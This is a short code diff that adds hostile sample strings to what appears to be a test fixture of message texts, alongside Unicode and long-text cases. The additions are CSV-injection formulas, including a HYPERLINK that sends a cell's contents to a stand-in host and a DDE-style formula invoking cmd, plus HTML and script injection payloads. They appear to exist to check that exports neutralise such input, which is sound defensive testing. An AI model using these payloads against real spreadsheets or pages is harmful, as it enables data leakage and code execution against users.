@@ -123,6 +123,14 @@ const TEXTS: readonly string[] = [
   'e\u0301 combining accent, zero\u200bwidth space',
   '한국어 메시지입니다 🙂',
   '',
+  // Hostile content (users write anything): spreadsheet formulas (CSV injection) and HTML/script
+  // injection, which exports and transcripts must neutralise.
+  '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3 minus first',
+  '<script>document.title="pwned"</script><img src=x onerror="document.title=\'pwned\'">',
+  '</div></section><a href="javascript:alert(1)">click</a><style>body{display:none}</style>',
 ];
 const LONG_TEXT_UNIT =
   '这是一段很长的消息，用来测试分页的字节上限。Long message body for page-size limits. 🚀 ';
